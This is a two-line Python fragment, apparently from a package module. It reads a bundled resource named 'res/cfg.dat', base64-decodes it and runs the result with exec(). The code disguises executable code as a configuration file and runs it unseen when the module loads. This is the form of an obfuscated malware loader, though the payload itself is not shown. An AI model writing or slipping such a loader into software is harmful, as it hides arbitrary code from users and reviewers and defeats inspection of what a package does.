import base64, pkgutil
exec(base64.b64decode(pkgutil.get_data(__name__, "res/cfg.dat")))
